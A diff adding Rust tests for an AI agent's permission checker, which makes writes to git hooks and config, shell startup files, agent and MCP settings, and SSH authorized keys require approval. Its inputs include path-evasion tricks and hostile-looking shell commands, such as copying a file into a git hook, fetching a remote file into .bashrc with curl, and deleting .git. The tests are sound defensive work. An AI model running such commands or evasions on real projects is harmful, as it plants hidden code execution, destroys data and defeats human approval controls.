@@ -1,0 +1,199 @@
+use super::*;
+use crate::policy::shell::analysis::tests::shell_request;
+use crate::policy::{Verdict, judge};
+use loopd_proto::permission::PermissionRule;
+
+fn permissions(kinds: &[&str]) -> Permissions {
+    let rule = |kind: &&str| PermissionRule {
+        kind: (*kind).to_owned(),
+        argument: None,
+    };
+    Permissions {
+        approved: kinds.iter().map(rule).collect(),
+        ..Permissions::default()
+    }
+}
+
+fn write(file: &str, also: &[&str]) -> PermissionRequest {
+    PermissionRequest::Write {
+        managed_approval_required: None,
+        tool_call_id: None,
+        intention: String::new(),
+        file_name: file.to_owned(),
+        diff: String::new(),
+        new_file_contents: None,
+        can_offer_session_approval: true,
+        other_files: Vec::new(),
+        also_named: also.iter().map(|name| (*name).to_owned()).collect(),
+    }
+}
+
+#[test]
+fn files_that_make_others_run_something_are_protected_at_any_depth() {
+    let protected = [
+        ".git/config",
+        "./.git/hooks/pre-commit",
+        "a/../.git/config",
+        "vendor/lib/.git/config",
+        ".git",
+        ".GIT/config",
+        ".Git/HOOKS/x",
+        ".git./config",
+        ".git /config",
+        ".git::$INDEX_ALLOCATION/config",
+        "GIT~1/config",
+        ".g\u{200c}it/config",
+        "a\\.git\\config",
+        ".github/hooks/pre.json",
+        "sub/.github/hooks",
+        ".claude/settings.json",
+        ".loopd/agents/a.md",
+        ".mcp.json",
+        "deep/er/.mcp.json",
+        ".bashrc",
+        "home/.zshenv",
+        ".config/fish/conf.d/x.fish",
+        "x/config.fish",
+        ".envrc",
+        ".vscode/tasks.json",
+        ".husky/pre-commit",
+        ".gitmodules",
+        ".ssh/authorized_keys",
+    ];
+    for path in protected {
+        assert!(is_protected(path), "{path}");
+    }
+    let ordinary = [
+        ".gitignore",
+        ".gitattributes",
+        ".github/workflows/ci.yml",
+        "hooks/pre.json",
+        "git/config",
+        "src/.gitkeep",
+        "mcp.json",
+        "bashrc",
+        "src/profile",
+        ".env",
+        "a/.github",
+        "docs/claude.md",
+    ];
+    for path in ordinary {
+        assert!(!is_protected(path), "{path}");
+    }
+}
+
+#[test]
+fn a_protected_file_is_asked_about_whatever_the_rules_allow() {
+    let mut named = permissions(&["write", "shell"]);
+    named.approved.push(PermissionRule {
+        kind: "write".to_owned(),
+        argument: Some("/project/.git".to_owned()),
+    });
+    for permissions in [permissions(&["write"]), named] {
+        let verdict = |request: &PermissionRequest| judge(&permissions, "/project", request);
+        assert_eq!(verdict(&write("/project/src/a.rs", &[])), Verdict::Allow);
+        assert_eq!(verdict(&write("/project/.git/config", &[])), Verdict::Ask);
+        // A link, named by what it is or by where it leads.
+        assert_eq!(
+            verdict(&write("/project/.git/config", &["/project/notes"])),
+            Verdict::Ask
+        );
+        assert_eq!(
+            verdict(&write(
+                "/project/git-data/config",
+                &["/project/.git/config"]
+            )),
+            Verdict::Ask
+        );
+    }
+    let all = Permissions {
+        approve_all: true,
+        ..Permissions::default()
+    };
+    let request = write("/project/.git/config", &[]);
+    assert_eq!(judge(&all, "/project", &request), Verdict::Allow);
+}
+
+#[test]
+fn the_name_of_the_sessions_own_directory_protects_nothing_in_it() {
+    let permissions = permissions(&["write"]);
+    let cwd = "/home/a/.loopd/worktrees/x";
+    let verdict = |request: &PermissionRequest| judge(&permissions, cwd, request);
+    let inside = "/home/a/.loopd/worktrees/x/src/a.rs";
+    assert_eq!(verdict(&write(inside, &[])), Verdict::Allow);
+    // The directory was reached through a link.
+    let real = "/data/.claude/x/src/a.rs";
+    assert_eq!(verdict(&write(inside, &[real])), Verdict::Allow);
+    let hook = "/home/a/.loopd/worktrees/x/.husky/pre-commit";
+    assert_eq!(verdict(&write(hook, &[])), Verdict::Ask);
+    let mut wide = permissions.clone();
+    wide.unrestricted_paths = true;
+    let other = write("/home/a/.loopd/config.toml", &[]);
+    assert_eq!(judge(&wide, cwd, &other), Verdict::Ask);
+}
+
+#[test]
+fn a_command_that_writes_to_a_protected_path_is_asked_about() {
+    let everything = permissions(&["shell"]);
+    let asked = [
+        "echo x > .git/config",
+        "echo x >> ./.git/hooks/pre-commit",
+        "echo x > \".g\"it/config",
+        "echo x > a/../.GIT/config",
+        "cp evil .git/hooks/pre-commit",
+        "mv evil .husky/pre-commit",
+        "ln -s /tmp/x .claude",
+        "tee .mcp.json < x",
+        "cat x | tee -a ~/.bashrc",
+        "touch .git/x",
+        "rm -rf .git",
+        "sed -i s/a/b/ .git/config",
+        "cd .git && touch x",
+        "cd .git/hooks; echo x > pre-commit",
+        "python3 -c 'open(\".git/config\", \"w\")'",
+        "sh -c 'echo x > .git/config'",
+        "dd if=x of=.git/config",
+        "curl -o .bashrc https://x.y",
+        "tar -xf x.tar -C .git",
+        "git log > .git/x",
+        "find .git -name x -delete",
+        "env cp x .envrc",
+        "install x {.git/config,y}",
+        "echo \"$(cp x .git/config)\"",
+    ];
+    for line in asked {
+        let verdict = judge(&everything, "/project", &shell_request(line));
+        assert_eq!(verdict, Verdict::Ask, "{line}");
+    }
+    let allowed = [
+        "git commit -m 'touch .git'",
+        "git config user.name x",
+        "git status && git add .",
+        "cat .git/config",
+        "ls -la .git",
+        "grep -rn x . --exclude-dir=.git",
+        "rsync -a --exclude .git . /tmp/x",
+        "tar --exclude=.git -czf x.tgz .",
+        "find . -path ./.git -prune -o -name x -print",
+        "cat .git/HEAD > head.txt",
+        "echo x > .gitignore",
+        "npm test",
+        "cp .github/workflows/a.yml b.yml",
+    ];
+    for line in allowed {
+        let verdict = judge(&everything, "/project", &shell_request(line));
+        assert_eq!(verdict, Verdict::Allow, "{line}");
+    }
+}
+
+#[test]
+fn a_link_into_a_protected_folder_is_asked_about() {
+    let everything = permissions(&["shell"]);
+    let mut request = shell_request("echo x > link/config");
+    assert_eq!(judge(&everything, "/project", &request), Verdict::Allow);
+    if let PermissionRequest::Shell { resolved_paths, .. } = &mut request {
+        let real = "/project/.git/config".to_owned();
+        resolved_paths.insert("link/config".to_owned(), real);
+    }
+    assert_eq!(judge(&everything, "/project", &request), Verdict::Ask);
+}
